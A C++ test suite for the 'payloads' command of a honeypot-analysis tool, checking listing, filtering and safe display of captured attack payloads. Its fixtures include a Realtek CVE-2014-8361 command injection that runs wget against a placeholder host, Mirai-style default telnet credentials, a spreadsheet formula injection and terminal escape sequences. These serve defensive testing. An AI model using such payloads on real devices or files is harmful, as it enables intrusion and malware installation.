// nightjar payloads, run as a user runs it, over conversations and payloads that a test writes down.
#include <gtest/gtest.h>

#include <sys/stat.h>

#include <cstdlib>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <random>
#include <set>
#include <sstream>

#include "figure/session_lake.hpp"
#include "support/program.hpp"

namespace nightjar::test {
namespace {

using Json = nlohmann::json;
using Lines = std::vector<std::string>;

constexpr std::size_t kWidth = 80;

/// 64 digits that begin so.
std::string hash(const std::string& beginning) { return beginning + std::string(64 - beginning.size(), '0'); }

class PayloadsCommand : public ::testing::Test {
 protected:
  int run(std::vector<std::string> arguments) { return run_into(path("out"), std::move(arguments)); }
  int run_into(const std::string& standard_output, std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), "payloads");
    return run_command(standard_output, std::move(arguments));
  }
  int run_command(const std::string& standard_output, std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), {"--lake", at_.lake().root().string()});
    Program program(NIGHTJAR_BINARY, arguments, {}, standard_output, path("err"));
    const int status = program.wait().status;
    out_ = standard_output == path("out") ? content_of(path("out")) : "";
    err_ = content_of(path("err"));
    return status;
  }
  Json json(std::vector<std::string> arguments) {
    arguments.insert(arguments.end(), {"--format", "json"});
    EXPECT_EQ(run(std::move(arguments)), 0) << err_;
    return Json::parse(out_);
  }
  /// The first digits of the payloads of a list, in its order.
  std::string listed(std::vector<std::string> arguments) {
    const Json list = json(std::move(arguments));
    std::string all;
    for (const Json& row : list["rows"]) all += (all.empty() ? "" : " ") + row["sha256"].get<std::string>().substr(0, 2);
    return all;
  }
  std::string path(const std::string& name) const { return (at_.folder() / name).string(); }

  /// A page for people: printable ASCII of 80 columns.
  void expect_page() const {
    std::istringstream lines(out_);
    for (std::string line; std::getline(lines, line);) {
      EXPECT_LE(line.size(), kWidth) << line;
      EXPECT_TRUE(std::ranges::all_of(line, [](char c) { return c >= 0x20 && c < 0x7f; })) << line;
    }
    EXPECT_TRUE(out_.ends_with('\n'));
  }

  static Talk talk(const std::string& payload, const std::string& src, std::int64_t second) {
    Talk made;
    made.first = micros_at("2017-11-23", second);
    made.src = src;
    made.payload = payload;
    return made;
  }
  static Sent sent(const std::string& sha256, const std::string& bytes, std::int64_t first, std::int64_t last) {
    Sent made;
    made.sha256 = sha256;
    made.bytes = bytes;
    made.first = micros_at("2017-11-23", first);
    made.last = micros_at("2017-11-23", last);
    return made;
  }

  /// Two payloads of conversations and one datagram to dark addresses.
  void fill(bool modelled = false) {
    at_.sensor("dark", SensorKind::darknet);
    Sent soap = sent(hash("aa"), "POST /picsdesc.xml HTTP/1.1\r\nHost: x\r\n\r\n", 100, 7200);
    soap.port = 52869;
    soap.tags = "realtek-miniigd okiru";
    soap.urls = "http://203.0.113.5/okiru.sh";
    at_.add(soap);
    Sent login = sent(hash("bb"), "\xff\xfd\x1froot\r\nxc3511\r\n", 86'400 + 5, 86'400 + 9);
    at_.add(login);
    Sent datagram = sent(hash("cc"), std::string("\x17\x00\x03\x2a\x00\x00\x00\x00", 8), 50, 50);
    datagram.protocol = 17;
    datagram.port = 123;
    datagram.sensor = "dark";
    datagram.src = "203.0.113.9";
    at_.add(datagram);
    for (int i = 0; i < 3; ++i) {
      Talk each = talk(hash("aa"), "192.0.2." + std::to_string(i / 2 + 1), 100 + 3550 * i);
      each.port = i == 1 ? 80 : 52869;
      each.country = i == 2 ? "BR" : "JP";
      each.tags = soap.tags;
      at_.add(each);
    }
    Talk other = talk(hash("bb"), "2001:db8::7", 86'400 + 5);
    other.dst = "2001:db8:ffff::1";
    other.sensor = "pot-2";
    at_.add(other);
    at_.write(modelled);
  }

  SessionLake at_;
  std::string out_, err_;
};

TEST_F(PayloadsCommand, ListsWhatWasSentTheNewestFirst) {
  fill();
  ASSERT_EQ(run({}), 0) << err_;
  EXPECT_EQ(out_, 1 + R"(
Payloads
3 payloads; days are UTC

sha256        size  first       last        sessions  hosts  ports
------------  ----  ----------  ----------  --------  -----  --------
bb0000000000    17  2017-11-24  2017-11-24         1      1  23
  text  root
aa0000000000    40  2017-11-23  2017-11-23         3      2  80 52869
  tags  realtek-miniigd okiru
  url   hxxp://203[.]0[.]113[.]5/okiru.sh
  text  POST /picsdesc.xml HTTP/1.1
cc0000000000     8  2017-11-23  2017-11-23         0      1  123/udp
  text  \x17\x00\x03*\x00\x00\x00\x00
)");
  expect_page();
}

TEST_F(PayloadsCommand, SaysTheSameInJsonWithAllOfIt) {
  fill();
  const Json list = json({"--from", "2017-11-23", "--to", "2017-11-24"});
  EXPECT_EQ(list["from"], "2017-11-23");
  EXPECT_EQ(list["to"], "2017-11-24");
  EXPECT_EQ(list["modelled"], false);
  EXPECT_EQ(list["total"], 2);
  ASSERT_EQ(list["rows"].size(), 2u);
  const Json& row = list["rows"][0];
  Lines keys;
  const auto in_order = nlohmann::ordered_json::parse(out_);
  for (const auto& [key, value] : in_order["rows"][0].items()) keys.push_back(key);
  EXPECT_EQ(keys, (Lines{"sha256", "size", "first", "last", "sessions", "hosts", "ports", "tags", "urls", "text"}));
  EXPECT_EQ(row["sha256"], hash("aa"));
  EXPECT_EQ(row["size"], 40);
  EXPECT_EQ(row["first"], "2017-11-23T00:01:40Z");
  EXPECT_EQ(row["last"], "2017-11-23T02:00:00Z");
  EXPECT_EQ(row["sessions"], 3);
  EXPECT_EQ(row["hosts"], 2);
  EXPECT_EQ(row["ports"], Json({80, 52869}));
  ASSERT_EQ(row["tags"].size(), 2u);
  EXPECT_EQ(row["tags"][0]["id"], "realtek-miniigd");
  EXPECT_TRUE(row["tags"][0].contains("cve"));
  EXPECT_TRUE(row["tags"][0].contains("name"));
  EXPECT_EQ(row["tags"][0].size(), 3u);
  EXPECT_EQ(row["urls"], Json({"http://203.0.113.5/okiru.sh"})) << "programs get them whole";
  EXPECT_EQ(row["text"], "POST /picsdesc.xml HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");
  EXPECT_EQ(list["rows"][1]["text"], "\\x17\\x00\\x03*\\x00\\x00\\x00\\x00");
}

TEST_F(PayloadsCommand, FindsByTimePortCountrySensorTagAndHosts) {
  fill();
  EXPECT_EQ(listed({}), "bb aa cc");
  EXPECT_EQ(listed({"--by", "port"}), "bb aa cc");
  EXPECT_EQ(listed({"--by", "tag"}), "aa bb cc");
  EXPECT_EQ(listed({"--by", "hosts"}), "aa bb cc");
  EXPECT_EQ(listed({"--by", "sessions"}), "aa bb cc");
  EXPECT_EQ(listed({"--top", "1"}), "bb");
  EXPECT_EQ(listed({"--from", "2017-11-24"}), "bb");
  EXPECT_EQ(listed({"--to", "2017-11-24"}), "aa cc");
  EXPECT_EQ(listed({"--to", "2017-11-24", "--tz", "Asia/Tokyo"}), "aa cc") << "until 15:00 UTC";
  EXPECT_EQ(listed({"--from", "2017-11-24", "--tz", "Asia/Tokyo"}), "bb");
  EXPECT_EQ(listed({"--from", "2017-11-23", "--to", "2017-11-24", "--tz", "America/New_York"}), "bb") << "from 05:00 UTC on";
  EXPECT_EQ(listed({"--where", "port = 80"}), "aa");
  EXPECT_EQ(listed({"--where", "port = 123"}), "cc");
  EXPECT_EQ(listed({"--where", "protocol = udp"}), "cc");
  EXPECT_EQ(listed({"--where", "protocol != udp"}), "bb aa");
  EXPECT_EQ(listed({"--where", "src = 203.0.113.9 or src = 2001:db8::7"}), "bb cc");
  EXPECT_EQ(listed({"--sensor", "pot-2", "--sensor", "dark"}), "bb cc");
  EXPECT_EQ(listed({"--where", "sensor = pot"}), "aa");
  EXPECT_EQ(listed({"--tag", "okiru"}), "aa");
  EXPECT_EQ(listed({"--tag", "okiru", "--tag", "realtek-miniigd", "--where", "port = 80 or port = 81"}), "aa");
  EXPECT_EQ(listed({"--tag", "none"}), "bb cc");
  EXPECT_EQ(listed({"--tag", "oki"}), "");
  EXPECT_EQ(listed({"--hosts", "2"}), "aa");
  EXPECT_EQ(listed({"--hosts", "3"}), "");
}

TEST_F(PayloadsCommand, ADatagramIsListedWhereAConversationSentTheSameBytesBefore) {
  constexpr std::int64_t kDay = 86'400;
  at_.add(sent(hash("aa"), "both", 100, 100));
  at_.add(talk(hash("aa"), "192.0.2.1", 100));
  for (const std::int64_t second : {200, 200 + static_cast<int>(kDay)}) {
    Sent datagram = sent(hash("aa"), "both", second, second);
    datagram.protocol = 17;
    datagram.port = 9999;
    at_.add(datagram);
  }
  at_.add(sent(hash("bb"), "talk", 100, 2 * kDay));
  Talk again = talk(hash("bb"), "192.0.2.1", 100);
  again.last = micros_at("2017-11-23", 2 * kDay);
  at_.add(again);
  at_.add(sent(hash("cc"), "part", kDay, kDay));
  at_.write();
  EXPECT_EQ(listed({"--from", "2017-11-24"}), "aa") << "bb began before, cc was the beginning of a conversation";
  EXPECT_EQ(listed({"--from", "2017-11-24", "--tag", "none"}), "aa");
  EXPECT_EQ(listed({"--from", "2017-11-25"}), "");
  EXPECT_EQ(listed({"--from", "2017-11-24", "--where", "port = 23"}), "") << "nobody sent it to 23 then";
}

TEST_F(PayloadsCommand, NumbersAreThoseOfTheConversationsThatWereAskedFor) {
  fill();
  const Json list = json({"--where", "country = BR"});
  ASSERT_EQ(list["rows"].size(), 1u);
  EXPECT_EQ(list["rows"][0]["sessions"], 1);
  EXPECT_EQ(list["rows"][0]["hosts"], 1);
  EXPECT_EQ(list["rows"][0]["ports"], Json({52869}));
  EXPECT_EQ(list["rows"][0]["last"], "2017-11-23T02:00:00Z") << "of the payload, whoever sent it";
  EXPECT_EQ(list["filter"], "country = BR");
  EXPECT_EQ(list["remarks"], Json({"payloads of UDP datagrams are left out: their country is not kept"}));
}

TEST_F(PayloadsCommand, NothingFoundIsOneSentence) {
  fill();
  ASSERT_EQ(run({"--from", "2019-01-01"}), 0);
  EXPECT_EQ(out_, "Payloads\nfrom 2019-01-01 in UTC\nno payloads in this span; sensors of kind honeypot fill this table\n");
  ASSERT_EQ(run({"--from", "2019-01-01", "--format", "csv"}), 0);
  EXPECT_EQ(out_, "sha256,size,first,last,sessions,hosts,ports,tags,urls,text\n");
  EXPECT_EQ(err_, "no payloads in this span; sensors of kind honeypot fill this table\n");
}

TEST_F(PayloadsCommand, MistakesGetOneSentenceEach) {
  EXPECT_EQ(run({}), 1);
  EXPECT_EQ(err_, "nightjar: there is no lake at " + at_.lake().root().string() + "; nightjar ingest makes one, --lake names another\n");
  at_.watch("2017-11-23", "pot");
  at_.write();
  EXPECT_EQ(run({"aaaaaa"}), 1);
  EXPECT_EQ(err_, "nightjar: the lake holds no payloads; sensors of kind honeypot fill this table\n");
  fill();
  EXPECT_EQ(run({"abcdef"}), 1);
  EXPECT_EQ(err_, "nightjar: there is no payload abcdef in the lake; nightjar payloads lists them\n");
  EXPECT_EQ(run({"aa000"}), 2);
  EXPECT_EQ(err_, "nightjar: \"aa000\" is no SHA-256: give its 64 hexadecimal digits, or the first 6 at least\n");
  for (const char* wrong : {"aa000x", "aa0000' OR 1", "%%%%%%", "------"}) EXPECT_EQ(run({"--", wrong}), 2) << wrong;
  EXPECT_EQ(run({hash("aa") + "0"}), 2);
  EXPECT_EQ(run({"--sensor", "pot-3"}), 1);
  EXPECT_EQ(err_, "nightjar: there is no sensor \"pot-3\" in the lake. Did you mean pot-2? Sensors are dark, pot, pot-2\n");
  EXPECT_EQ(run({"--where", "class = scan"}), 2);
  EXPECT_TRUE(err_.starts_with("nightjar: the field class cannot be applied here: the table sessions does not keep it.")) << err_;
  EXPECT_EQ(run({"--where", "prt = 1"}), 2);
  EXPECT_TRUE(err_.starts_with("nightjar: --where: at 1: ")) << err_;
  EXPECT_EQ(run({"--tag", "a b"}), 2);
  EXPECT_EQ(run({"--from", "yesterday"}), 2);
  EXPECT_EQ(run({"--from", "2017-11-24", "--to", "2017-11-24"}), 2);
  EXPECT_EQ(run({"--from", "2017-11-24", "--tz", "Asia/Kolkata"}), 2);
  EXPECT_EQ(run({"--top", "0"}), 2);
  EXPECT_EQ(run({"--format", "parquet"}), 2);
  EXPECT_EQ(run({"--save", path("x")}), 2);
  EXPECT_EQ(err_, "nightjar: --save and --all are for one payload: nightjar payloads HASH\n");
}

TEST_F(PayloadsCommand, ABeginningOfSeveralHashesNamesThem) {
  at_.add(sent(hash("abcdef1"), "x", 1, 1));
  at_.add(sent(hash("abcdef2"), "y", 1, 1));
  at_.write();
  EXPECT_EQ(run({"abcdef"}), 1);
  EXPECT_EQ(err_, "nightjar: several payloads begin with abcdef: " + hash("abcdef1") + ", " + hash("abcdef2") + "\n");
  EXPECT_EQ(run({"ABCDEF2"}), 0) << "capital letters do too";
  EXPECT_TRUE(out_.starts_with("payload " + hash("abcdef2") + "\n")) << out_;
  for (int i = 3; i < 10; ++i) at_.add(sent(hash("abcdef" + std::to_string(i)), "z", 1, 1));
  at_.write();
  EXPECT_EQ(run({"abcdef"}), 1);
  EXPECT_TRUE(err_.ends_with(", and more\n")) << err_;
}

TEST_F(PayloadsCommand, ShowsOneInFull) {
  fill();
  ASSERT_EQ(run({"aa0000", "--top", "2"}), 0) << err_;
  expect_page();
  EXPECT_TRUE(out_.starts_with("payload " + hash("aa") +
                               "\n40 bytes, first 2017-11-23 00:01:40, last 2017-11-23 02:00:00 UTC\n3 sessions of 2 hosts, port 80 52869\n"
                               "first sent by 192.0.2.1 to port 52869/tcp of the sensor pot\ntags\n  realtek-miniigd"))
      << out_;
  EXPECT_NE(out_.find("\nwould be loaded from (never fetched)\n  hxxp://203[.]0[.]113[.]5/okiru.sh\n"), std::string::npos) << out_;
  EXPECT_NE(out_.find(R"(
sources by country
country  hosts  sessions
-------  -----  --------
JP           1         2
BR           1         1

sessions, the newest 2
time (UTC)           source     cc   port  sensor
-------------------  ---------  --  -----  ------
2017-11-23 02:00:00  192.0.2.2  BR  52869  pot
2017-11-23 01:00:50  192.0.2.1  JP     80  pot

bytes
00000000  50 4f 53 54 20 2f 70 69  63 73 64 65 73 63 2e 78  |POST /picsdesc.x|
00000010  6d 6c 20 48 54 54 50 2f  31 2e 31 0d 0a 48 6f 73  |ml HTTP/1.1..Hos|
00000020  74 3a 20 78 0d 0a 0d 0a                           |t: x....|
)"),
            std::string::npos)
      << out_;
  const Json one = json({hash("aa")});
  EXPECT_EQ(one.size(), 11u);
  EXPECT_EQ(one["sessions"], 3);
  EXPECT_EQ(one["urls"], Json({"http://203.0.113.5/okiru.sh"}));
  ASSERT_EQ(one["session_list"].size(), 3u);
  EXPECT_EQ(one["session_list"][0], Json({{"time", "2017-11-23T02:00:00Z"},
                                          {"source", "192.0.2.2"},
                                          {"source_port", 40'000},
                                          {"port", 52869},
                                          {"sensor", "pot"},
                                          {"country", "BR"}}));
  const Json datagram = json({"cc0000"});
  EXPECT_EQ(datagram["sessions"], 0);
  EXPECT_EQ(datagram["hosts"], 1);
  EXPECT_EQ(datagram["ports"], Json({123}));
  EXPECT_EQ(datagram["session_list"], Json::array());
  ASSERT_EQ(run({"cc0000"}), 0);
  EXPECT_NE(out_.find("\nfirst sent by 203.0.113.9 to port 123/udp of the sensor dark\n"), std::string::npos) << out_;
}

TEST_F(PayloadsCommand, SignaturesAreNamedAndTheirBytesShown) {
  Sent soap = sent(hash("aa"),
                   "POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
                   "<NewInternalClient>`cd /tmp; wget http://203.0.113.5/okiru.sh`</NewInternalClient>",
                   1, 1);
  soap.tags = "realtek-miniigd forgotten";
  at_.add(soap);
  at_.add(talk(soap.sha256, "192.0.2.1", 1));
  at_.write();
  ASSERT_EQ(run({"aa0000"}), 0) << err_;
  expect_page();
  EXPECT_NE(out_.find("\ntags\n  realtek-miniigd CVE-2014-8361 Realtek SDK miniigd: command in AddPortMapping\n    at "), std::string::npos)
      << out_;
  EXPECT_NE(out_.find("\n  forgotten\n"), std::string::npos) << "an id that no file knows any more: " << out_;
  for (const Lines& arguments : {Lines{"aa0000"}, Lines{}}) {
    const Json answer = json(arguments);
    const Json& tags = arguments.empty() ? answer["rows"][0]["tags"] : answer["tags"];
    EXPECT_EQ(tags[0],
              Json({{"id", "realtek-miniigd"}, {"cve", "CVE-2014-8361"}, {"name", "Realtek SDK miniigd: command in AddPortMapping"}}));
    EXPECT_EQ(tags[1], Json({{"id", "forgotten"}, {"cve", nullptr}, {"name", nullptr}}));
  }
}

TEST_F(PayloadsCommand, UsersSignaturesAreAskedToo) {
  at_.add(sent(hash("aa"), "....xyzzy....", 1, 1));
  at_.write();
  const auto signatures = [&](const std::string& text) {
    std::ofstream(path("mine.toml")) << text;
    return path("mine.toml");
  };
  const std::string mine = signatures(
      "[[signature]]\nid = \"my-word\"\nname = \"A word of mine\"\nsource = \"a test\"\ndate = 2017-11-23\n"
      "[[signature.when]]\nall = [\"xyzzy\"]\n");
  ASSERT_EQ(run({"aa0000", "--signatures", mine}), 0) << err_;
  EXPECT_NE(out_.find("\nno tags: no signature matched when it was ingested\nalso matched by the signatures in use now\n"
                      "  my-word A word of mine\n    at 4: xyzzy\n"),
            std::string::npos)
      << out_;
  ASSERT_EQ(run({"aa0000"}), 0) << err_;
  EXPECT_EQ(out_.find("my-word"), std::string::npos);
  EXPECT_EQ(run({"aa0000", "--signatures", signatures("[[signature]]\n")}), 1);
  EXPECT_TRUE(err_.starts_with("nightjar: ")) << err_;
  EXPECT_NE(err_.find("mine.toml"), std::string::npos) << err_;
  EXPECT_EQ(run({"aa0000", "--signatures", path("nowhere.toml")}), 1);
}

TEST_F(PayloadsCommand, LongRunsAreFoldedAndTheRestIsShownWhenAskedFor) {
  std::string bytes = "head" + std::string(5000, 'A') + "end";
  at_.add(sent(hash("aa"), bytes, 1, 1));
  at_.write();
  ASSERT_EQ(run({"aa0000"}), 0) << err_;
  expect_page();
  EXPECT_TRUE(
      out_.ends_with("bytes\n"
                     "00000000  68 65 61 64 41 41 41 41  41 41 41 41 41 41 41 41  |headAAAAAAAAAAAA|\n"
                     "00000010  41 41 41 41 41 41 41 41  41 41 41 41 41 41 41 41  |AAAAAAAAAAAAAAAA|\n"
                     "*         254 lines the same\n"
                     "... 911 more bytes; --all shows them\n"))
      << out_;
  ASSERT_EQ(run({"aa0000", "--all"}), 0) << err_;
  EXPECT_TRUE(
      out_.ends_with("*         310 lines the same\n"
                     "00001380  41 41 41 41 41 41 41 41  41 41 41 41 65 6e 64     |AAAAAAAAAAAAend|\n"))
      << out_;
  const Json one = json({"aa0000"});
  EXPECT_EQ(one["text"], bytes.substr(0, 4096)) << "4 KiB at most";
}

TEST_F(PayloadsCommand, SavesTheBytesToANewFileThatNobodyCanRun) {
  std::string every;
  for (int byte = 0; byte < 256; ++byte) every += static_cast<char>(byte);
  at_.add(sent(hash("aa"), every, 1, 1));
  at_.write();
  ASSERT_EQ(run({"aa0000", "--save", path("saved")}), 0) << err_;
  EXPECT_EQ(content_of(path("saved")), every);
  EXPECT_EQ(out_, "");
  EXPECT_EQ(err_, "256 bytes as received in " + path("saved") + "; it may be malware: never run it\n");
  struct stat status {};
  ASSERT_EQ(::stat(path("saved").c_str(), &status), 0);
  EXPECT_EQ(status.st_mode & 07777, 0600u);
  EXPECT_EQ(run({"aa0000", "--save", path("saved")}), 1);
  EXPECT_EQ(err_, "nightjar: " + path("saved") + " is there already: --save overwrites nothing\n");
  std::filesystem::create_symlink(path("target"), path("link"));
  EXPECT_EQ(run({"aa0000", "--save", path("link")}), 1) << "a link is not followed";
  EXPECT_FALSE(std::filesystem::exists(path("target")));
  EXPECT_EQ(run({"aa0000", "--save", path("no/folder")}), 1);
  EXPECT_EQ(err_, "nightjar: cannot make " + path("no/folder") + ": No such file or directory\n");
  ASSERT_EQ(run({"aa0000", "--save", "-"}), 0) << err_;
  EXPECT_EQ(out_, every);
}

TEST_F(PayloadsCommand, NeverWritesRawBytesToATerminal) {
  at_.add(sent(hash("aa"), "\x1b]0;owned\x07", 1, 1));
  at_.write();
  const int master = ::posix_openpt(O_RDWR | O_NOCTTY);
  if (master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0) GTEST_SKIP() << "this machine has no terminals to give";
  EXPECT_EQ(run_into(::ptsname(master), {"aa0000", "--save", "-"}), 1);
  EXPECT_EQ(err_, "nightjar: --save - would write raw bytes of the Internet to the terminal: name a file, or a pipe\n");
  ::close(master);
}

/// Controls, another direction of writing, bytes that a spreadsheet runs, and length, in every text of a row.
TEST_F(PayloadsCommand, HostileTextsHarmNoTerminalAndNoSpreadsheet) {
  const std::string evil = "=cmd|'/C'!A1\x1b[2J\xe2\x80\xae\xc2\x9b\x7f";
  const std::string sensor = "pot\xe2\x80\xae\x1b[31m" + std::string(60, 'x');
  Sent bad = sent(hash("aa"), "\x1b[2J=evil\xe2\x80\xae\r\n" + std::string(300, 'z'), 1, 1);
  bad.tags = evil + " " + std::string(200, 't');
  bad.urls = "http://h\x1b]8;;.example/" + std::string(200, 'u') + " " + evil;
  bad.sensor = sensor;
  at_.add(bad);
  Talk by = talk(hash("aa"), "2001:db8:1111:2222:3333:4444:5555:6666", 1);
  by.dst = "2001:db8::1";
  by.sensor = sensor;
  by.country = "\x1b[";
  at_.add(by);
  at_.write();
  ASSERT_EQ(run({}), 0) << err_;
  expect_page();
  ASSERT_EQ(run({"aa0000"}), 0) << err_;
  std::istringstream lines(out_);
  for (std::string line; std::getline(lines, line);)
    for (const char c : line) EXPECT_TRUE(c >= 0x20 && c < 0x7f) << line;
  ASSERT_EQ(run({"--format", "csv"}), 0) << err_;
  EXPECT_NE(out_.find(",'" + evil), std::string::npos) << "the tags begin with =";
  EXPECT_NE(out_.find("\\x1b[2J=evil\\xe2\\x80\\xae\\r\\n"), std::string::npos) << out_;
  for (const Lines& arguments : {Lines{"--format", "json"}, Lines{"aa0000", "--format", "json"}}) {
    ASSERT_EQ(run(arguments), 0) << err_;
    EXPECT_TRUE(std::ranges::all_of(out_, [](char c) { return (c >= 0x20 && c < 0x7f) || c == '\n'; })) << out_;
  }
}

TEST_F(PayloadsCommand, FiguresOfConversationsFillEightyColumnsAndAddressesCannotBeClicked) {
  Talk by = talk(hash("aa"), "192.0.2.1", 1);
  by.urls = "http://203.0.113.123/" + std::string(100, 'u') + " http://203.0.113.5/a.sh";
  by.logins = "=cmd|'/C'!A1\x1b[2J" + std::string(100, 'r') + "\t" + std::string(100, 'p') + "\t0";
  by.injections = std::string(100, 'a') + "\t\xe2\x80\xae" + std::string(100, 'f') + "\t0";
  by.port = 52869;
  at_.add(by);
  at_.write();
  for (const char* figure : {"malware-urls", "logins", "injection-points"}) {
    ASSERT_EQ(run_command(path("out"), {"figure", figure}), 0) << err_;
    const std::size_t table = out_.find("\n\n");
    ASSERT_NE(table, std::string::npos);
    out_.erase(0, table + 2);
    expect_page();
  }
  ASSERT_EQ(run_command(path("out"), {"figure", "malware-urls"}), 0) << err_;
  EXPECT_NE(out_.find("\nhxxp://203[.]0[.]113[.]5/a.sh "), std::string::npos) << out_;
  ASSERT_EQ(run_command(path("out"), {"figure", "malware-urls", "--format", "csv"}), 0) << err_;
  EXPECT_NE(out_.find("\nhttp://203.0.113.5/a.sh,1,1,2017-11-23T00:00:01Z,2017-11-23T00:00:01Z\n"), std::string::npos) << out_;
  ASSERT_EQ(run_command(path("out"), {"figure", "logins", "--format", "csv"}), 0) << err_;
  EXPECT_NE(out_.find("\n'=cmd|"), std::string::npos) << "no formula";
}

TEST_F(PayloadsCommand, ModelledDataAreMarkedInEveryForm) {
  fill(true);
  ASSERT_EQ(run({}), 0);
  EXPECT_TRUE(out_.starts_with("Payloads\nmodelled data\n")) << out_;
  ASSERT_EQ(run({"aa0000"}), 0);
  EXPECT_NE(out_.find("\nmodelled data\n"), std::string::npos);
  EXPECT_EQ(json({})["modelled"], true);
  EXPECT_EQ(json({"aa0000"})["modelled"], true);
  ASSERT_EQ(run({"--format", "csv", "--hosts", "2"}), 0);
  EXPECT_EQ(out_, "sha256,size,first,last,sessions,hosts,ports,tags,urls,text,modelled\n" + hash("aa") +
                      ",40,2017-11-23T00:01:40Z,2017-11-23T02:00:00Z,3,2,80 52869,realtek-miniigd okiru,http://203.0.113.5/okiru.sh,"
                      "POST /picsdesc.xml HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n,true\n");
  ASSERT_EQ(run({"--format", "parquet", "-o", path("list.parquet")}), 0) << err_;
  EXPECT_NE(content_of(path("list.parquet")).find("modelled"), std::string::npos);
}

/// Random conversations, parts of some in a second file, against loops.
TEST_F(PayloadsCommand, CountsConversationsAndHostsAsALoopDoes) {
  std::mt19937 random(20171123);
  const auto pick = [&](int first, int last) { return std::uniform_int_distribution<int>(first, last)(random); };
  std::vector<Talk> talks;
  for (int i = 0; i < 400; ++i) {
    Talk each = talk(hash(std::to_string(10 + pick(0, 15))), "192.0.2." + std::to_string(pick(1, 30)), pick(0, 3 * 86'400));
    if (pick(0, 3) == 0) {
      each.src = "2001:db8:0:" + std::to_string(pick(0, 3)) + "::" + std::to_string(pick(1, 5));
      each.dst = "2001:db8::1";
    }
    each.src_port = static_cast<std::uint16_t>(1024 + i);
    each.port = static_cast<std::uint16_t>(pick(80, 83));
    each.country = pick(0, 1) == 0 ? "JP" : "BR";
    each.packets = 9;
    if (pick(0, 4) == 0) {
      Talk part = each;
      part.packets = 5;
      part.payload = hash("99");
      at_.add(part);
    }
    talks.push_back(each);
  }
  std::set<std::string> hashes;
  for (const Talk& each : talks) hashes.insert(each.payload);
  for (const std::string& each : hashes) at_.add(sent(each, each.substr(0, 2), 0, 1));
  at_.add(sent(hash("99"), "part", 0, 1));
  at_.write();
  for (const Talk& each : talks) at_.add(each);
  at_.write();
  std::map<std::string, std::tuple<int, std::set<std::uint64_t>, std::set<int>>> all;
  for (const Talk& each : talks) {
    if (each.country != "JP" || each.first < micros_at("2017-11-24", 0) || each.port == 83) continue;
    auto& [sessions, hosts, ports] = all[each.payload];
    ++sessions;
    hosts.insert(parse_address(each.src)->high);
    ports.insert(each.port);
  }
  const Json list = json({"--from", "2017-11-24", "--where", "country = JP and port != 83", "--top", "1000"});
  EXPECT_EQ(list["total"], all.size());
  ASSERT_EQ(list["rows"].size(), all.size());
  for (const Json& row : list["rows"]) {
    const auto& [sessions, hosts, ports] = all[row["sha256"]];
    EXPECT_EQ(row["sessions"], sessions) << row;
    EXPECT_EQ(row["hosts"], hosts.size()) << row;
    EXPECT_EQ(row["ports"], Json(ports)) << row;
    const Json one = json({row["sha256"], "--from", "2017-11-24", "--where", "country = JP and port != 83", "--top", "1000"});
    EXPECT_EQ(one["session_list"].size(), static_cast<std::size_t>(sessions));
    EXPECT_EQ(one["hosts"], hosts.size());
  }
  EXPECT_GT(all.size(), 10u);
  const Json part = json({hash("99")});
  EXPECT_EQ(part["sessions"], 0) << "every conversation went on after these bytes";
}

}  // namespace
}  // namespace nightjar::test
